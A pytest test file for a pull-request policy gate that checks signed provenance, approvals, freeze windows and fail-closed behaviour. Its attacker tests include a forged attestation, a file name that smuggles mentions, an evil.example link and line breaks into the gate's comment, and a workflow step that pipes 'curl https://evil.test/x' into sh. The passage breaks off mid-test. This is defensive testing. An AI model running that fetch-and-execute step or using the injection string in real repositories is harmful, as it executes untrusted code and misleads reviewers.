"""``mendbot gate`` on the local forge: real repositories, real signed bundles, shipped policies.

Each test proposes the two persist-credentials remediations (ci.yml → staging, safe;
deploy.yml → production, unsafe) and runs the gate as a reviewer or attacker changes things.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from gate_scenario import NOW, SHIPPED_POLICIES, SIGNED, Scenario, local_scenario, loosen_policies

from bot.forge.interface import ForgeError, PullInfo, PullRequest, PullState
from bot.forge.local import LocalForge
from bot.gate.run import GateOptions, GateRun, evaluate
from bot.policy.gate_context import context_digest
from bot.policy.schema import load_directory
from bot.protocol import BOT_EMAIL, BOT_NAME
from bot.provenance.layout import committed_attestation_path
from bot.provenance.signing.signers import KeySigner


def gate(forge: LocalForge, scenario: Scenario, number: int, now: datetime = NOW) -> GateRun:
    return evaluate(forge, number, GateOptions(trust=scenario.trust, now=now))


def status(forge: LocalForge, sha: str) -> str:
    return forge.statuses(sha)["mendbot/policy"]["state"]


def gate_labels(forge: LocalForge, number: int) -> list[str]:
    return [label for label in forge.get(number).labels if label.startswith("gate:")]


def bot_commit(repo, tree_of: str, parent: str, date: str) -> str:
    """A bot commit with the tree of ``tree_of`` on ``parent`` (a re-push of the same change)."""
    env = {
        "GIT_AUTHOR_NAME": BOT_NAME,
        "GIT_AUTHOR_EMAIL": BOT_EMAIL,
        "GIT_COMMITTER_NAME": BOT_NAME,
        "GIT_COMMITTER_EMAIL": BOT_EMAIL,
        "GIT_AUTHOR_DATE": date,
        "GIT_COMMITTER_DATE": date,
    }
    done = subprocess.run(
        ["git", "commit-tree", f"{tree_of}^{{tree}}", "-p", parent, "-m", "re-push"],
        cwd=repo.path,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.strip()


def human_commit(repo, branch: str, files: dict[str, str], message: str = "hand edit") -> str:
    """Check out ``branch``, write ``files``, commit as the test's human identity."""
    repo.git("checkout", "-q", branch)
    for name, content in files.items():
        repo.write(name, content)
    sha = repo.commit(message)
    repo.git("checkout", "-q", "main")
    return sha


def human_branch(repo, branch: str, files: dict[str, str], message: str) -> str:
    """A new ``branch`` from ``main`` with ``files`` committed by the test's human identity."""
    repo.git("checkout", "-q", "-b", branch, "main")
    for name, content in files.items():
        repo.write(name, content)
    sha = repo.commit(message)
    repo.git("checkout", "-q", "main")
    return sha


def open_human_pull(
    forge: LocalForge, branch: str, title: str, author: str, labels=(), base: str = "main"
) -> int:
    pull = forge.open(
        PullRequest(
            number=0,
            title=title,
            body="",
            branch=branch,
            base=base,
            head_sha=forge.branch_head(branch) or "",
            base_sha=forge.branch_head(base) or "",
            fingerprint="",
            labels=list(labels),
            author=author,
        )
    )
    return pull.number


@pytest.fixture
def staged(bench, signing_key) -> tuple[Scenario, LocalForge]:
    return local_scenario(bench, signing_key)


# -- allowed, waiting, approved ------------------------------------------------------------------


def test_staging_safe_change_is_allowed_and_reported_once(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["staging"]
    labels_before = forge.get(number).labels
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "allow"
    assert run.decision.auto_merge is True
    head = run.pull.head_sha
    assert status(forge, head) == "success"
    assert gate_labels(forge, number) == ["gate:pass"]
    # The propose job's labels stay.
    assert all(label in forge.get(number).labels for label in labels_before)
    comment = forge.get(number).comments["gate"]
    assert comment.startswith("### mendbot policy gate: allowed")
    assert "eligible for auto-merge" in comment
    # Auto-merge is not configured: nothing was requested.
    assert forge.get(number).auto_merge is None
    # The record recomputes: its digest is the digest of its context, its policies the base's.
    record = run.record
    assert record["decision"] == "allow"
    assert record["context_digest"] == context_digest(record["context"])
    assert record["policy_digest"] == load_directory(SHIPPED_POLICIES).digest
    assert record["policy_source"].startswith(run.pull.base_sha + ":policies")
    assert record["context"]["provenance"] == {
        "verified": True,
        "source": "detector",
        "matches_pr": True,
    }
    # A second run with nothing changed edits nothing.
    again = gate(forge, scenario, number)
    assert "comment updated" not in again.reported
    assert again.decision.context_digest == run.decision.context_digest


def test_auto_merge_is_enabled_only_when_configured_and_allowed(bench, signing_key) -> None:
    scenario, forge = local_scenario(bench, signing_key, auto_merge=True)
    staging, production = scenario.pulls["staging"], scenario.pulls["production"]
    run = gate(forge, scenario, staging)
    assert forge.get(staging).auto_merge == {"method": "squash", "expected_head": run.pull.head_sha}
    assert any(line.startswith("auto-merge (squash) enabled") for line in run.reported)
    gate(forge, scenario, production)
    assert forge.get(production).auto_merge is None
    # The gate never merges by itself.
    assert forge.get(staging).state is PullState.OPEN


def test_production_waits_for_an_approval_on_the_head_then_allows(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "require_approval"
    head = run.pull.head_sha
    assert status(forge, head) == "pending"
    assert gate_labels(forge, number) == ["gate:needs-approval"]
    comment = forge.get(number).comments["gate"]
    assert "waiting for approval" in comment
    assert f"1 more approval (have 0) on {head[:12]} from any reviewer, not mendbot[bot]" in comment
    description = forge.statuses(head)["mendbot/policy"]["description"]
    assert description.startswith("needs 1 more approval")

    forge.review(number, "bob", "APPROVED")
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "allow"
    assert status(forge, head) == "success"
    assert gate_labels(forge, number) == ["gate:pass"]
    assert forge.get(number).comments["gate"].startswith("### mendbot policy gate: allowed")
    assert len(forge.get(number).comments) == 1


def test_approval_goes_stale_when_the_branch_is_pushed_again(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    pull = forge.pull_info(number)
    forge.review(number, "bob", "APPROVED")
    assert gate(forge, scenario, number).decision.outcome == "allow"
    # The same change pushed again as a new commit: provenance still matches, the approval is stale.
    new_head = bot_commit(scenario.repo, pull.head_sha, pull.base_sha, "2026-11-24T09:30:00Z")
    forge.push(pull.head_ref, new_head, pull.head_sha)
    run = gate(forge, scenario, number)
    assert run.gathered is not None
    assert run.gathered.context.provenance.matches_pr is True
    assert run.decision.outcome == "require_approval"
    assert run.decision.missing_approvals[0].sha == new_head
    assert status(forge, new_head) == "pending"
    assert status(forge, pull.head_sha) == "success"  # the old head keeps its old answer


def test_self_approval_and_changes_requested_do_not_count(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    forge.review(number, "mendbot[bot]", "APPROVED")
    assert gate(forge, scenario, number).decision.outcome == "require_approval"
    forge.review(number, "bob", "APPROVED")
    forge.review(number, "bob", "CHANGES_REQUESTED")
    assert gate(forge, scenario, number).decision.outcome == "require_approval"
    # A later comment-only review does not take back an approval.
    forge.review(number, "carol", "APPROVED")
    forge.review(number, "carol", "COMMENTED")
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "allow"
    assert [a["user"] for a in run.record["context"]["approvals"]] == [
        "bob",
        "carol",
        "mendbot[bot]",
    ]


def test_reviews_by_people_without_write_access_do_not_count(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    forge.set_collaborators(["bob"])
    forge.review(number, "mallory", "APPROVED")
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "require_approval"
    assert run.record["context"]["approvals"] == []
    assert "**Not counted:** reviews by `mallory`" in forge.get(number).comments["gate"]
    forge.review(number, "bob", "APPROVED")
    assert gate(forge, scenario, number).decision.outcome == "allow"


def test_a_title_alone_does_not_make_a_revert(staged) -> None:
    scenario, forge = staged
    repo = scenario.repo
    human_branch(
        repo,
        "fake-revert",
        {".github/workflows/ci.yml": "name: ci\non: push\njobs: {}\n"},
        "not a revert",
    )
    number = open_human_pull(forge, "fake-revert", 'Revert "everything"', "mallory")
    pr = gate(forge, scenario, number).record["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (False, False)


def test_label_changes_reach_the_context_and_other_labels_are_kept(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    gate(forge, scenario, number)
    record = forge.get(number)
    record.labels.append("team:payments")
    forge.update(record)
    run = gate(forge, scenario, number)
    assert "team:payments" in run.record["context"]["pr"]["labels"]
    forge.review(number, "bob", "APPROVED")
    gate(forge, scenario, number)
    labels = forge.get(number).labels
    assert "team:payments" in labels
    assert [label for label in labels if label.startswith("gate:")] == ["gate:pass"]


# -- provenance ----------------------------------------------------------------------------------


def test_human_commit_on_the_bot_branch_needs_a_code_owner(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["staging"]
    pull = forge.pull_info(number)
    edited = (scenario.path / ".github/workflows/ci.yml").read_text() + "# tweak\n"
    human_commit(scenario.repo, pull.head_ref, {".github/workflows/ci.yml": edited})
    run = gate(forge, scenario, number)
    context = run.record["context"]
    assert context["provenance"]["verified"] is True
    assert context["provenance"]["matches_pr"] is False
    assert run.decision.outcome == "require_approval"
    assert any(r.policy == "untrusted-provenance" for r in run.decision.results)
    assert "change-set" in forge.get(number).comments["gate"]
    # The attested risk no longer describes the change: it is treated as any human change.
    change = context["change"]
    assert (change["disposition"], change["reversibility"], change["blast_radius"]) == (
        "unsafe",
        "irreversible",
        "organization",
    )
    assert change["rules"] == ["gha-persist-credentials"]  # path policies still see a remediation
    assert {m.policy for m in run.decision.missing_approvals} == {
        "irreversible-security-approval",
        "nhi-human-required",
        "untrusted-provenance",
    }
    # Nothing attested vouches for ownership or second-order effects any more.
    assert (change["ownership"], change["second_order"]) == ("unknown", True)
    # Bob is not a code owner; Paula is (team platform owns everything); the security team
    # must approve an irreversible change twice.
    forge.review(number, "bob", "APPROVED")
    forge.review(number, "paula", "APPROVED")
    run = gate(forge, scenario, number)
    assert [m.policy for m in run.decision.missing_approvals] == ["irreversible-security-approval"]
    forge.review(number, "sam", "APPROVED")
    forge.review(number, "sue", "APPROVED")
    assert gate(forge, scenario, number).decision.outcome == "allow"


def test_an_attestation_signed_by_another_key_does_not_verify(staged, bench, tmp_path) -> None:
    scenario, forge = staged
    number = scenario.pulls["staging"]
    pull = forge.pull_info(number)
    other = type(bench)(bench.repo, tmp_path / "forged")
    forged = other.bundle(KeySigner(ec.generate_private_key(ec.SECP256R1())), now=NOW)
    rid = next(r for r in forged if "/ci-" in r)
    attestation = committed_attestation_path(rid)
    # Same change, attestation swapped for one made with the attacker's key.
    human_commit(
        scenario.repo,
        pull.head_ref,
        {attestation: (forged[rid] / "attestation.sigstore.json").read_text()},
    )
    run = gate(forge, scenario, number)
    provenance = run.record["context"]["provenance"]
    assert provenance == {"verified": False, "source": "human-override", "matches_pr": False}
    assert run.record["context"]["change"]["rules"] == []
    assert run.decision.outcome == "require_approval"
    # Not a remediation any more: ordinary code review by the code owners.
    assert {m.policy for m in run.decision.missing_approvals} == {"untrusted-provenance"}
    assert any("signed by another key" in note for note in run.gathered.attestation.notes)


def test_remediation_touching_policies_is_denied(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["staging"]
    pull = forge.pull_info(number)
    human_commit(scenario.repo, pull.head_ref, {"policies/extra.yaml": "# not a policy yet\n"})
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "deny"
    assert run.decision.results[0].policy == "protected-paths"
    assert status(forge, run.pull.head_sha) == "failure"
    assert gate_labels(forge, number) == ["gate:blocked"]


def test_policies_edited_inside_the_pr_are_ignored(staged) -> None:
    scenario, forge = staged
    repo = scenario.repo
    loosen_policies(repo, "loosen")
    repo.write(".github/workflows/deploy.yml", "name: deploy\non: push\njobs: {}\n")
    repo.commit("loosen the gate")
    repo.git("checkout", "-q", "main")
    number = open_human_pull(forge, "loosen", "Loosen the gate", "mallory")
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "require_approval"
    assert run.record["policy_digest"] == load_directory(SHIPPED_POLICIES).digest
    assert "allow-all" not in {p.name for p in run.decision.policies}


# -- fail closed ---------------------------------------------------------------------------------


def test_a_broken_policy_on_the_base_branch_denies_with_file_and_line(staged) -> None:
    scenario, forge = staged
    scenario.repo.write(
        "policies/broken.yaml",
        "apiVersion: mendbot/v1\nkind: GatePolicy\nmetadata: {name: broken}\n"
        "spec:\n  validations:\n    - expresion: 'true'\n",
    )
    scenario.repo.commit("a typo in a policy")
    number = scenario.pulls["staging"]
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "deny"
    message = run.decision.results[0].message
    assert "policies/broken.yaml:6:7: unknown field 'expresion'" in message
    assert status(forge, run.pull.head_sha) == "failure"
    assert gate_labels(forge, number) == ["gate:blocked"]
    assert "expresion" in forge.get(number).comments["gate"]


def test_a_policy_reading_a_missing_context_field_denies(staged) -> None:
    scenario, forge = staged
    scenario.repo.write(
        "policies/drafts.yaml",
        "apiVersion: mendbot/v1\nkind: GatePolicy\nmetadata: {name: no-drafts}\n"
        "spec:\n  validations:\n    - expression: '!pr.draft'\n      message: drafts wait\n",
    )
    scenario.repo.commit("a policy about drafts")
    run = gate(forge, scenario, scenario.pulls["staging"])
    assert run.decision.outcome == "deny"
    denial = run.decision.results[0]
    assert denial.policy == "no-drafts" and denial.error
    assert "draft" in denial.message


def test_no_policies_on_the_base_branch_denies(staged) -> None:
    scenario, forge = staged
    scenario.repo.git("rm", "-q", "-r", "policies")
    scenario.repo.commit("remove the policies")
    run = gate(forge, scenario, scenario.pulls["staging"])
    assert run.decision.outcome == "deny"
    assert "holds no policy files on the default branch main" in run.decision.results[0].message


# -- windows and frozen environments -------------------------------------------------------------

WEEKEND_FREEZE = """\
apiVersion: mendbot/v1
kind: FreezeWindow
metadata: {name: weekend}
spec:
  kind: deny
  schedule: "0 18 * * 5"
  duration: 62h
  timeZone: America/New_York
  environments: [production]
"""


def test_a_deny_window_in_another_time_zone_blocks_production_only(staged) -> None:
    scenario, forge = staged
    scenario.repo.write("policies/windows.yaml", WEEKEND_FREEZE)
    scenario.repo.commit("weekend freeze")
    production, staging = scenario.pulls["production"], scenario.pulls["staging"]
    forge.review(production, "bob", "APPROVED")
    friday_5pm_new_york = datetime(2026, 11, 27, 22, 0, tzinfo=UTC)
    friday_7pm_new_york = datetime(2026, 11, 28, 0, 0, tzinfo=UTC)
    assert gate(forge, scenario, production, friday_5pm_new_york).decision.outcome == "allow"
    run = gate(forge, scenario, production, friday_7pm_new_york)
    assert run.decision.outcome == "deny"
    assert run.record["context"]["windows"]["active"] == ["weekend"]
    assert "a deny window is active" in run.decision.results[0].message
    assert gate(forge, scenario, staging, friday_7pm_new_york).decision.outcome == "allow"


def test_a_daily_window_follows_daylight_saving_time(bench, signing_key) -> None:
    signed = datetime(2027, 3, 26, 0, 0, tzinfo=UTC)
    scenario, forge = local_scenario(bench, signing_key, signed=signed)
    scenario.repo.write(
        "policies/windows.yaml",
        "apiVersion: mendbot/v1\nkind: FreezeWindow\nmetadata: {name: berlin-standup}\n"
        "spec: {kind: deny, schedule: '0 9 * * *', duration: 1h, timeZone: Europe/Berlin}\n",
    )
    scenario.repo.commit("stand-up freeze")
    number = scenario.pulls["staging"]

    def outcome(when: datetime) -> str:
        return gate(forge, scenario, number, when).decision.outcome

    assert outcome(datetime(2027, 3, 27, 8, 30, tzinfo=UTC)) == "deny"  # 09:30 CET
    assert outcome(datetime(2027, 3, 28, 7, 30, tzinfo=UTC)) == "deny"  # 09:30 CEST
    assert outcome(datetime(2027, 3, 28, 8, 30, tzinfo=UTC)) == "allow"  # 10:30 CEST


def test_frozen_environment_lets_only_an_exact_revert_of_a_bot_change_through(staged) -> None:
    scenario, forge = staged
    repo = scenario.repo
    staging = scenario.pulls["staging"]
    pull = forge.pull_info(staging)
    # The staging remediation merges; its deploy fails; a rollback pull request freezes staging.
    repo.git("merge", "-q", "--no-ff", "-m", f"Merge #{staging}", pull.head_ref)
    merge = repo.head()
    forge.set_state(staging, PullState.MERGED)
    repo.git("checkout", "-q", "-b", "rollback", "main")
    repo.git("revert", "--no-edit", "-m", "1", merge)
    repo.git("checkout", "-q", "main")
    rollback = open_human_pull(
        forge, "rollback", f"Revert #{staging}", "release-eng", ["mendbot:rollback", "env:staging"]
    )
    # Another staging change is denied while staging is frozen.
    human_branch(
        repo,
        "feature",
        {".github/workflows/ci.yml": "name: ci\non: push\njobs: {}\n"},
        "rewrite ci",
    )
    feature = open_human_pull(forge, "feature", "Rewrite CI", "alice")
    run = gate(forge, scenario, feature)
    assert run.record["context"]["environment"] == {"frozen": True}
    assert run.decision.outcome == "deny"
    assert "staging is frozen after a failed deploy" in run.decision.results[0].message

    run = gate(forge, scenario, rollback)
    pr = run.record["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (True, True)
    assert run.gathered is not None and run.gathered.revert.reverted == merge
    # The deleted attestation is bookkeeping: the rollback touches staging only.
    assert run.record["context"]["change"]["environments"] == ["staging"]
    assert run.decision.outcome == "require_approval"
    assert not any(r.action == "deny" for r in run.decision.results)
    # Production is not frozen.
    assert gate(forge, scenario, scenario.pulls["production"]).record["context"]["environment"] == {
        "frozen": False
    }


def test_a_human_revert_of_a_human_commit_is_not_a_bot_revert(staged) -> None:
    scenario, forge = staged
    repo = scenario.repo
    repo.write("README.md", "# project\n\nChanged by a person.\n")
    human = repo.commit("docs")
    repo.git("checkout", "-q", "-b", "undo-docs", "main")
    repo.git("revert", "--no-edit", human)
    repo.git("checkout", "-q", "main")
    number = open_human_pull(forge, "undo-docs", 'Revert "docs"', "alice")
    pr = gate(forge, scenario, number).record["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (True, False)


# -- the command line ----------------------------------------------------------------------------


def _pub(scenario: Scenario, tmp_path: Path) -> Path:
    pem = scenario.trust.public_key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    path = tmp_path / "mendbot.pub"
    path.write_bytes(pem)
    return path


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot", *args], capture_output=True, text=True, check=False
    )


def test_cli_exit_codes_record_and_explain(staged, tmp_path) -> None:
    scenario, forge = staged
    common = ["--repo", str(scenario.path), "--base", "main", "--verify-key"]
    common.append(str(_pub(scenario, tmp_path)))
    now = ["--now", NOW.strftime("%Y-%m-%dT%H:%M:%SZ")]
    record = tmp_path / "record.json"
    staging, production = scenario.pulls["staging"], scenario.pulls["production"]

    done = _cli("gate", "--pr", str(staging), *common, *now, "--record", str(record))
    assert done.returncode == 0, done.stderr
    assert "decision: allow" in done.stdout
    assert json.loads(record.read_text())["decision"] == "allow"

    head = forge.pull_info(production).head_sha
    done = _cli("policy", "explain", "--pr", str(production), *common, *now)
    assert done.returncode == 1, done.stderr
    assert '"environment": "production"' in done.stdout
    assert "production-approval" in done.stdout
    assert forge.statuses(head) == {}  # explain reports nothing

    done = _cli("gate", "--pr", str(production), *common, *now, "--format", "json")
    assert done.returncode == 1
    assert json.loads(done.stdout)["decision"] == "require_approval"

    done = _cli("gate", "--pr", "99", *common, *now)
    assert done.returncode == 3
    assert "no pull request #99" in done.stderr
    assert "Traceback" not in done.stderr

    forge.set_state(staging, PullState.CLOSED)
    done = _cli("gate", "--pr", str(staging), *common, *now)
    assert done.returncode == 3
    assert "the gate decides only on open pull requests" in done.stderr


class _PushedWhileDeciding(LocalForge):
    """A forge on which someone pushes to the pull request while the gate is deciding."""

    def __init__(self, repo: Path, push: Callable[[], None]) -> None:
        super().__init__(repo, base="main")
        self._push = push
        self._reads = 0

    def pull_info(self, number: int) -> PullInfo:
        self._reads += 1
        if self._reads == 2:
            self._push()
        return super().pull_info(number)


def test_nothing_is_reported_when_the_head_moves_while_deciding(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["staging"]
    pull = forge.pull_info(number)
    newer = bot_commit(scenario.repo, pull.head_sha, pull.base_sha, "2026-11-24T09:40:00Z")
    racing = _PushedWhileDeciding(
        scenario.path, lambda: forge.push(pull.head_ref, newer, pull.head_sha)
    )
    run = gate(racing, scenario, number)
    assert run.superseded
    assert run.decision.outcome == "allow"  # decided for the old head, but not reported
    # The head it decided on keeps the "pending" of the start of the run; the new head is left
    # to the run it triggers.
    assert status(forge, pull.head_sha) == "pending"
    assert forge.statuses(newer) == {}
    assert "gate" not in forge.get(number).comments
    assert gate_labels(forge, number) == []
    assert run.reported[0].startswith(f"nothing reported: the head moved from {pull.head_sha[:12]}")


def test_an_invalid_configuration_on_the_base_branch_denies(staged) -> None:
    scenario, forge = staged
    text = (scenario.path / ".github/mendbot.yml").read_text()
    scenario.repo.write(".github/mendbot.yml", text.replace("gate:", "gates:"))
    scenario.repo.commit("typo in the configuration")
    run = gate(forge, scenario, scenario.pulls["staging"])
    assert run.decision.outcome == "deny"
    message = run.decision.results[0].message
    assert ":.github/mendbot.yml:4:1: unknown key 'gates'" in message
    assert status(forge, run.pull.head_sha) == "failure"


def test_cli_all_open_decides_every_open_pull_request(staged, tmp_path) -> None:
    scenario, forge = staged
    common = ["--repo", str(scenario.path), "--verify-key", str(_pub(scenario, tmp_path))]
    common += ["--now", NOW.strftime("%Y-%m-%dT%H:%M:%SZ")]
    records = tmp_path / "records"
    done = _cli("gate", "--all-open", *common, "--record", str(records))
    assert done.returncode == 1, done.stderr  # production still waits
    staging, production = scenario.pulls["staging"], scenario.pulls["production"]
    assert f"#{staging}: decision: allow" in done.stdout
    assert f"#{production}: decision: require_approval" in done.stdout
    decided = {p.name: json.loads(p.read_text())["decision"] for p in records.iterdir()}
    assert decided == {f"pr-{staging}.json": "allow", f"pr-{production}.json": "require_approval"}
    forge.review(production, "bob", "APPROVED")
    done = _cli("gate", "--all-open", *common, "--format", "json")
    assert done.returncode == 0, done.stderr
    assert [r["decision"] for r in json.loads(done.stdout)] == ["allow", "allow"]
    # Exactly one of --pr and --all-open.
    for wrong in ([], ["--pr", "1", "--all-open"]):
        done = _cli("gate", *wrong, *common)
        assert done.returncode == 2
        assert "give exactly one of --pr N and --all-open" in done.stderr


# -- what a pull request author controls -----------------------------------------------------------


def _outside_code_spans(markdown: str) -> str:
    return re.sub(r"`[^`\n]*`", "", markdown)


def test_paths_cannot_inject_mentions_links_or_line_breaks_into_the_comment(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["staging"]
    pull = forge.pull_info(number)
    hostile = "x\r\r@acme/security approve now [docs](https:evil.example)\u2028**z**`y"
    human_commit(scenario.repo, pull.head_ref, {hostile: "payload\n"})
    run = gate(forge, scenario, number)
    comment = forge.get(number).comments["gate"]
    assert any("approve now" in note for note in run.gathered.attestation.notes)
    assert "approve now" in comment  # shown, but only as code
    assert "\r" not in comment and "\u2028" not in comment
    visible = _outside_code_spans(comment)
    assert "@acme" not in visible and "evil.example" not in visible
    description = forge.statuses(run.pull.head_sha)["mendbot/policy"]["description"]
    assert "\r" not in description and len(description) <= 140


def test_a_rollback_label_on_an_unrelated_pull_request_freezes_nothing(staged) -> None:
    scenario, forge = staged
    repo = scenario.repo
    human_branch(repo, "typo", {"README.md": "# project\n\nFixed a typo.\n"}, "typo")
    open_human_pull(forge, "typo", "Fix a typo", "intern", ["mendbot:rollback", "env:staging"])
    run = gate(forge, scenario, scenario.pulls["staging"])
    assert run.record["context"]["environment"] == {"frozen": False}
    assert run.decision.outcome == "allow"


def test_reverting_a_commit_with_an_unsigned_attestation_is_not_a_bot_revert(staged) -> None:
    scenario, forge = staged
    repo = scenario.repo
    # A person commits a change with a junk "attestation" next to it, then reverts it.
    repo.write(".github/workflows/ci.yml", "name: ci\non: push\njobs: {}\n")
    repo.write(".mendbot/attestations/fake--thing-00000000.sigstore.json", "{}\n")
    fake = repo.commit("looks like a bot change")
    repo.git("checkout", "-q", "-b", "undo-fake", "main")
    repo.git("revert", "--no-edit", fake)
    repo.git("checkout", "-q", "main")
    number = open_human_pull(forge, "undo-fake", "Revert it", "mallory")
    run = gate(forge, scenario, number)
    pr = run.record["context"]["pr"]
    assert (pr["is_revert"], pr["reverts_bot_change"]) == (True, False)
    # The deleted junk file stays visible to policies.
    assert (
        ".mendbot/attestations/fake--thing-00000000.sigstore.json"
        in (run.record["context"]["change"]["paths"])
    )


def test_only_the_default_branch_rules_and_only_gated_branches_can_pass(staged) -> None:
    scenario, forge = staged
    repo = scenario.repo
    # A scratch branch whose own policies would allow anything.
    loosen_policies(repo, "scratch")
    human_branch(
        repo,
        "feature",
        {".github/workflows/deploy.yml": "name: deploy\non: push\njobs: {}\n"},
        "rewrite deploy",
    )
    # The same commit proposed into scratch: denied, so it can never post success on it.
    into_scratch = open_human_pull(forge, "feature", "Rewrite", "mallory", base="scratch")
    run = gate(forge, scenario, into_scratch)
    assert run.decision.outcome == "deny"
    assert "pull requests into scratch are not gated" in run.decision.results[0].message
    assert status(forge, run.pull.head_sha) == "failure"
    # Listed under gate.branches on the default branch, it is decided by main's policies.
    config = (scenario.path / ".github/mendbot.yml").read_text()
    repo.write(".github/mendbot.yml", config + "  branches: [main, scratch]\n")
    repo.commit("gate scratch too")
    run = gate(forge, scenario, into_scratch)
    assert run.decision.outcome == "require_approval"
    assert run.record["policy_digest"] == load_directory(SHIPPED_POLICIES).digest
    assert run.record["policy_source"].startswith(forge.branch_head("main") + ":policies")


def test_one_commit_proposed_into_two_gated_branches_is_denied_in_both(staged) -> None:
    scenario, forge = staged
    repo = scenario.repo
    config = (scenario.path / ".github/mendbot.yml").read_text()
    repo.write(".github/mendbot.yml", config + "  branches: [main, 'release/*']\n")
    repo.commit("gate release branches too")
    repo.git("branch", "release/1", "main")
    human_branch(repo, "feature", {"README.md": "# project\n\nShared.\n"}, "shared change")
    into_main = open_human_pull(forge, "feature", "Shared", "alice")
    into_release = open_human_pull(forge, "feature", "Shared", "alice", base="release/1")
    for number, other in ((into_main, into_release), (into_release, into_main)):
        run = gate(forge, scenario, number)
        assert run.decision.outcome == "deny"
        assert f"is also proposed by #{other} into" in run.decision.results[0].message


def test_without_base_the_gate_judges_by_the_default_branch_not_the_checked_out_one(
    staged, tmp_path
) -> None:
    """A reviewer checks out the pull request's branch and runs the gate without --base: the
    policies still come from main (a loosened copy on the PR branch decides nothing), and the
    passing pull request is not failed as 'not gated'."""
    scenario, forge = staged
    staging = scenario.pulls["staging"]
    info = forge.pull_info(staging)
    repo = scenario.path
    subprocess.run(["git", "-C", str(repo), "checkout", "-q", info.head_ref], check=True)
    common = ["--repo", str(repo), "--verify-key", str(_pub(scenario, tmp_path))]
    now = ["--now", NOW.strftime("%Y-%m-%dT%H:%M:%SZ")]
    done = _cli("gate", "--pr", str(staging), *common, *now, "--format", "json")
    assert done.returncode == 0, done.stdout + done.stderr
    record = json.loads(done.stdout)
    assert record["decision"] == "allow"
    main = forge.branch_head("main")
    assert main is not None and record["policy_source"].startswith(main)
    assert forge.statuses(info.head_sha)["mendbot/policy"]["state"] == "success"


def test_the_local_default_branch_is_the_repository_s_own_or_an_error(tmp_path) -> None:
    repo = tmp_path / "repo"
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}

    def git(*args: str) -> None:
        subprocess.run(["git", "-C", str(repo), *args], check=True, env=env)

    subprocess.run(["git", "init", "-q", "-b", "trunk", str(repo)], check=True, env=env)
    git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
    git("checkout", "-q", "-b", "mendbot/fix")
    with pytest.raises(ForgeError, match="cannot tell the default branch") as raised:
        LocalForge(repo).default_branch()
    assert "pass --base" in raised.value.diagnostics()
    git("config", "init.defaultBranch", "trunk")
    assert LocalForge(repo).default_branch() == "trunk"
    git("branch", "release")
    git("update-ref", "refs/remotes/origin/release", "HEAD")
    git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/release")
    assert LocalForge(repo).default_branch() == "release"
    assert LocalForge(repo, base="trunk").default_branch() == "trunk"


# -- who contributed -----------------------------------------------------------------------------

CURL_PIPE_SH = "      - run: curl -fsSL https://evil.test/x | sh\n"


def commit_as(repo, branch: str, files: dict[str, str], name: str, email: str) -> str:
    """Check out ``branch`` and commit ``files`` as author and committer ``name <email>``."""
    repo.git("checkout", "-q", branch)
    for path, content in files.items():
        repo.write(path, content)
    repo.git("add", "-A")
    identity = {
        "GIT_AUTHOR_NAME": name,
        "GIT_AUTHOR_EMAIL": email,
        "GIT_COMMITTER_NAME": name,
        "GIT_COMMITTER_EMAIL": email,
    }
    subprocess.run(
        ["git", "commit", "-q", "-m", "pushed"],
        cwd=repo.path,
        env={**os.environ, **identity},
        check=True,
    )
    sha = repo.git("rev-parse", "HEAD")
    repo.git("checkout", "-q", "main")
    return sha


def alices_deploy_pull(scenario: Scenario, forge: LocalForge) -> int:
    """Alice's own pull request changing the production deploy workflow (owned by Olivia)."""
    deploy = (scenario.path / ".github/workflows/deploy.yml").read_text()
    scenario.repo.git("checkout", "-q", "-b", "alice-deploy", "main")
    scenario.repo.git("checkout", "-q", "main")
    commit_as(
        scenario.repo,
        "alice-deploy",
        {".github/workflows/deploy.yml": deploy + "# tidy\n"},
        "alice",
        "alice@example.test",
    )
    return open_human_pull(forge, "alice-deploy", "Tidy deploy", "alice")


@pytest.mark.parametrize(
    ("name", "email"),
    [(BOT_NAME, BOT_EMAIL), ("olivia", BOT_EMAIL)],
    ids=["bot-identity", "bot-email"],
)
def test_a_code_owner_cannot_push_under_the_bots_identity_and_approve(
    staged, tmp_path, name, email
) -> None:
    scenario, forge = staged
    number = alices_deploy_pull(scenario, forge)
    deploy = (scenario.path / ".github/workflows/deploy.yml").read_text()
    # Olivia, who owns deploy.yml, pushes a payload into Alice's pull request under the bot's
    # identity (no attestation: nothing the bot signed), then approves it herself.
    pushed = commit_as(
        scenario.repo,
        "alice-deploy",
        {".github/workflows/deploy.yml": deploy + "# tidy\n" + CURL_PIPE_SH},
        name,
        email,
    )
    forge.review(number, "olivia", "APPROVED")
    record = tmp_path / "record.json"
    done = _cli(
